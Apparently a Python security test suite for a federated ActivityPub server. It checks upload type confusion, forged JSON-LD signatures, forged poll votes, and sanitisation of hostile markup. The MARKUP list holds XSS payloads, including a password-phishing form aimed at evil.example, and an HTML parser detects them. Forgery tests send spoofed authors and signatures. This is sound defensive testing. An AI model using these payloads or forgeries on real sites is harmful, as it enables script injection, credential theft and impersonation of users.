"""N19, N21, N25, N30, N73: what stands in documents. Looked at is what is stored and what is shown; each lie has its twin, the same said
rightly."""
import html.parser
import json
import secrets
import time

from cryptography.hazmat.primitives.asymmetric import ed25519
from peer import Key, prove, proven, stamp
from pictures import png
from rig import EVIL, VICTIM
from toolbox import eventually

PUBLIC = "https://www.w3.org/ns/activitystreams#Public"
AP = "application/activity+json"
DIGITS = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
MARKUP = ('<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '"><script>alert(1)</script>',
          "<a href=\"javascript:alert(1)\">x</a>", '<a href="java\tscript:alert(1)">x</a>', '<iframe src="https://evil.example"></iframe>',
          '<p style="position:fixed" onclick="alert(1)">x</p>', '</textarea><script>alert(1)</script>', '<math><mtext></math><script>alert(1)</script>',
          '<style>*{display:none}</style>', '<form action="https://evil.example"><input name=password></form>', "{{alert(1)}}", "<b>bold</b>")


class Harm(html.parser.HTMLParser):
    """What a browser would run, load or send of a page that no page of ours has."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.found, self._raw = [], None
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        values = {name: (value or "") for name, value in attributes}
        if tag in ("svg", "math", "iframe", "object", "embed", "base"):
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name in values if name.startswith("on")]
        self.found += [f"{tag} {name}={values[name]}" for name in ("href", "src", "action", "formaction")
                       if "".join(values.get(name, "").split()).lower().startswith(("javascript:", "data:text", "https://evil.example"))]
        self._raw = tag if tag in ("script", "style") else None

    def handle_data(self, data):
        if self._raw and ("alert(1)" in data or "display:none" in data.replace(" ", "") and self._raw == "style" and "*{" in data):
            self.found.append(f"{self._raw}: {data[:60]}")

    def handle_endtag(self, tag):
        self._raw = None


def harmful(text):
    return Harm(text).found


class Contents:
    def __init__(self, rig):
        self.rig, self.mercy, self.pat, self.peer, self.recorder = rig, rig.mercy, rig.pat, rig.peer, rig.recorder
        self.victim = self.peer.actor("vic-contents", VICTIM)
        self.mallory = self.peer.actor("mallory-contents")

    def secret(self):
        return f"said{time.monotonic_ns()}"

    def does(self, actor, activity):
        self.rig.accepted(actor.post(self.mercy, activity))
        return self.rig.settled(activity["id"])

    def arrives(self, actor, note):
        activity = actor.activity("Create", note)
        self.rig.accepted(actor.post(self.mercy, activity))
        return self.rig.ann.get("/api/v1/statuses/" + str(self.rig.arrives(activity) and self.rig.status(note["id"])["id"]))

    # N19
    def n19_nothing_uploaded_is_activitypub(self):
        forged = json.dumps({"@context": "https://www.w3.org/ns/activitystreams", "id": f"{self.mercy.base}/users/root", "type": "Person"})
        for content, file, kind in ((forged.encode(), "actor.json", AP), (forged.encode(), "a.png", "image/png"),
                                    (b"\xef\xbb\xbf" + forged.encode(), "a.jpg", "image/jpeg")):
            for method, path, field in (("POST", "/api/v2/media", "file"), ("PATCH", "/api/v1/accounts/update_credentials", "avatar")):
                status, body = self.upload(method, path, field, content, file, kind)
                assert status == 422, f"{path} took {file}: {status} {body}"
        # A picture with a document behind it is taken; what is served is the picture alone, whatever is asked for.
        status, media = self.upload("POST", "/api/v2/media", "file", png() + forged.encode(), "both.png", AP)
        assert status in (200, 202), media
        url = eventually("the picture is ready", lambda: self.rig.ann.request("GET", f"/api/v1/media/{media['id']}")[2].get("url"), 60)
        for accept in (AP, "*/*"):
            status, headers, bytes_ = self.rig.ann.request("GET", url[len(self.mercy.base):], headers={"Accept": accept}, raw=True)
            assert status == 200 and headers["content-type"].startswith("image/"), headers
            assert headers.get("x-content-type-options") == "nosniff" and b"activitystreams" not in bytes_, headers
        # Posts that look like documents are text.
        self.rig.ann.request("POST", "/api/v1/statuses", {"status": forged})  # the privacy guard asks once
        status = self.rig.ann.post("/api/v1/statuses", status=forged)
        document = self.pat.get(self.mercy, status["uri"][len(self.mercy.base):])[2]
        assert document["id"] == status["uri"] and document["type"] == "Note" and document["attributedTo"] == self.mercy.users["ann"]["uri"]

    def upload(self, method, path, field, content, file, kind):
        boundary = secrets.token_hex(16)
        body = (f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{file}"\r\nContent-Type: {kind}\r\n\r\n').encode() \
            + content + f"\r\n--{boundary}--\r\n".encode()
        client = self.rig.ann
        connection = client._connect()  # noqa: SLF001 - the client speaks JSON only
        try:
            connection.request(method, path, body, {"Host": client.url.netloc, "Authorization": f"Bearer {client.token}",
                                                    "Content-Type": f"multipart/form-data; boundary={boundary}"})
            answer = connection.getresponse()
            text = answer.read()
        finally:
            connection.close()
        return answer.status, json.loads(text)

    # N21
    def n21_linked_data_signatures(self):
        """None proves anything, and no trick of JSON-LD moves what is said: it is read as it is written."""
        signature = {"type": "RsaSignature2017", "creator": self.victim.key.id, "created": stamp(), "signatureValue": "c2lnbmVk"}
        text = self.secret()
        forged = {**self.victim.create(text), "signature": signature}
        assert self.pat.post(self.mercy, forged)[0] == 401 and not self.rig.stored(forged["id"])
        graph = {"@context": forged["@context"], "@graph": [forged], "signature": signature}
        assert self.pat.post(self.mercy, graph)[0] in (400, 401)
        renamed = {**self.victim.create(text), "@context": [*forged["@context"], {"by": "as:actor"}], "actor": None, "by": self.pat.id}
        assert self.pat.post(self.mercy, renamed)[0] in (400, 401)
        said = self.secret()
        for trick in ({"@included": [self.victim.note(text, serve=False)]}, {"@reverse": {"object": forged}}, {"@graph": [forged]},
                      {"@context": [*forged["@context"], {"attributedTo": "https://example.org/nothing"}]}):
            activity = {**self.pat.create(said), **trick}
            self.does(self.pat, activity)
        assert self.rig.shown_posts(text) == 0
        assert self.rig.shown_posts(said) == 4, "what pat said is there, in pat's name"
        assert {row["uri"] for row in self.rig.db.rows(
            "SELECT DISTINCT a.uri FROM statuses s JOIN accounts a ON a.id = s.account_id WHERE s.content LIKE '%' || :'text' || '%'",
            text=said)} == {self.pat.id}

    def n21_what_is_passed_on(self):
        """By a group: the author's proof counts; without one the origin is asked; a forged one is no proof."""
        group = self.peer.actor(f"group{time.monotonic_ns()}", EVIL, kind="Group")
        self.rig.ann.call("POST", f"/api/v1/accounts/{self.rig.resolve(group.id, 'accounts')[0]['id']}/follow")
        follow = eventually("the group is followed", lambda: [f for f in self.recorder.activities("Follow", host=EVIL) if f["object"] == group.id], 60)[0]
        self.does(group, group.activity("Accept", follow))

        def passed_on(activity):
            self.does(group, group.activity("Announce", activity, to=[PUBLIC], cc=[f"{group.id}/followers"]))
        true, lie = self.secret(), self.secret()
        note = self.victim.note(true)
        passed_on({**self.victim.activity("Create", {**note, "content": f"<p>{lie}</p>"}), "signature": {"type": "RsaSignature2017"}})
        assert self.rig.shown_posts(lie) == 0 and self.rig.shown_posts(true) == 1, "the origin's wording counts"
        secret = self.victim.activity("Create", self.victim.note(lie, serve=False))
        passed_on(secret)
        stranger = Key(self.victim.second.id, "ed25519")
        passed_on(prove(secret, stranger, stamp()))
        forged = prove(self.victim.activity("Create", self.victim.note(self.secret(), serve=False)), self.victim.second, stamp())
        forged["object"]["content"] = f"<p>{lie}</p>"
        passed_on(forged)
        assert self.rig.shown_posts(lie) == 0, "a forged proof counted"
        good = self.secret()
        passed_on(prove(self.victim.activity("Create", self.victim.note(good, serve=False)), self.victim.second, stamp()))
        assert self.rig.shown_posts(good) == 1, "its author's proof did not count"

    def our_proofs(self):
        """What we send to everybody carries a proof that another verifies, and that breaks with one changed word."""
        reader = self.peer.actor("reader-contents")
        self.does(reader, reader.activity("Follow", self.mercy.users["ann"]["uri"]))
        since = self.recorder.now()
        uri = self.rig.ann.post("/api/v1/statuses", status=self.secret())["uri"]
        find = lambda: [a for a in self.recorder.activities("Create", since=since) if a["object"]["id"] == uri]  # noqa: E731
        activity = eventually("the post reaches its readers", find, 60)[0]
        document = self.pat.get(self.mercy, "/users/ann")[2]
        methods = document["assertionMethod"]
        method = next(one for one in (methods if isinstance(methods, list) else [methods]) if one["id"] == activity["proof"]["verificationMethod"])
        number = 0
        for digit in method["publicKeyMultibase"][1:]:
            number = number * 58 + DIGITS.index(digit)
        key = ed25519.Ed25519PublicKey.from_public_bytes(number.to_bytes(34, "big")[2:])
        assert proven(activity, key)
        activity["object"]["content"] += "!"
        assert not proven(activity, key)

    # N25
    def n25_votes(self):
        poll = self.rig.ann.post("/api/v1/statuses", status="yes?", poll={"options": ["yes", "no"], "expires_in": 3600})
        counts = lambda: self.counted(poll["id"])  # noqa: E731
        ann = self.mercy.users["ann"]["uri"]

        def votes(actor, name, by=None):
            note = {"@context": "https://www.w3.org/ns/activitystreams", "id": actor.new_id("votes"), "type": "Note", "name": name,
                    "attributedTo": by or actor.id, "inReplyTo": poll["uri"], "to": [ann]}
            return self.does(actor, actor.activity("Create", note))
        votes(self.pat, "yes")
        assert counts() == [1, 0]
        votes(self.pat, "yes")
        votes(self.pat, "no")
        votes(self.pat, "perhaps")
        votes(self.mallory, "no", by=self.pat.id)
        votes(self.mallory, "no", by=self.victim.id)
        assert counts() == [1, 0], counts()
        outcome = votes(self.mallory, "no")
        assert counts() == [1, 1], f"an honest vote does not count: {outcome} {counts()}"
        self.rig.db.run("UPDATE polls SET expires_at = now() - interval '1 second' WHERE status_id = :'id'", id=poll["id"])
        votes(self.victim, "no")
        assert counts() == [1, 1], "counted after the end"
        self._counts_of_others()

    def counted(self, status_id):
        return self.rig.db.rows("SELECT votes FROM polls WHERE status_id = :'id'", id=status_id)[0]["votes"]

    def _counts_of_others(self):
        choice = lambda name, count: {"type": "Note", "name": name, "replies": {"type": "Collection", "totalItems": count}}  # noqa: E731
        asked = self.pat.note("and you?", type="Question", oneOf=[choice("a", 2), choice("b", 3)], endTime=stamp(3600), votersCount=5)
        status = self.arrives(self.pat, asked)
        counts = lambda: self.counted(status["id"])  # noqa: E731
        assert counts() == [2, 3]
        for wrong in (-5, "many", 1.5, None):
            changed = {**asked, "oneOf": [choice("a", wrong), choice("b", 3)], "votersCount": wrong}
            self.does(self.pat, self.pat.activity("Update", changed, to=asked["to"]))
            assert all(isinstance(count, int) and count >= 0 for count in counts()), f"{wrong}: {counts()}"
        self.does(self.mallory, self.mallory.activity("Update", {**asked, "oneOf": [choice("a", 99), choice("b", 3)]}, to=asked["to"]))
        assert counts()[0] != 99, "counted by a neighbour"
        self.does(self.pat, self.pat.activity("Update", {**asked, "oneOf": [choice("a", 7), choice("b", 3)]}, to=asked["to"]))
        assert counts() == [7, 3], counts()

    # N73
    def n73_markup_is_text(self):
        """Names, titles, descriptions and words of a hostile server, in the API and on every public page that shows them."""
        mine = self.rig.ann.post("/api/v1/statuses", status="say something")
        for number, markup in enumerate(MARKUP):
            actor = self.peer.actor(f"marker{time.monotonic_ns()}")
            actor.extra = {"name": markup, "summary": markup,
                           "attachment": [{"type": "PropertyValue", "name": markup, "value": markup}]}
            actor.publish()
            note = actor.note(serve=True, content=f"<b>seen{number}</b>{markup}", summary=markup, inReplyTo=mine["uri"],
                              tag=[{"type": "Mention", "href": self.mercy.users["ann"]["uri"], "name": markup}],
                              cc=[self.mercy.users["ann"]["uri"]],
                              attachment=[{"type": "Document", "mediaType": "image/png", "url": f"{actor.base}/x.png", "name": markup}])
            shown = self.arrives(actor, note)
            assert not harmful(shown["content"]) and not harmful(shown["account"]["note"]), (markup, shown["content"])
            assert f"seen{number}" in shown["content"], f"{markup}: its words are lost"
            assert not any(harmful(field["value"]) for field in shown["account"]["fields"]), shown["account"]["fields"]
        for path in (mine["url"][len(self.mercy.base):], f"{mine['url'][len(self.mercy.base):]}/embed", "/@ann"):
            status, headers, body = self.mercy.client().request("GET", path, headers={"Accept": "text/html"}, raw=True)
            assert not harmful(body.decode()), (path, harmful(body.decode()))
            policy = headers["content-security-policy"]
            assert "default-src 'none'" in policy and "unsafe" not in policy, policy


def run(report, rig):
    tests = Contents(rig)
    for name in ("n19_nothing_uploaded_is_activitypub", "n21_linked_data_signatures", "n21_what_is_passed_on", "our_proofs", "n25_votes",
                 "n73_markup_is_text"):
        report.check(f"contents: {name.replace('_', ' ')}", getattr(tests, name))
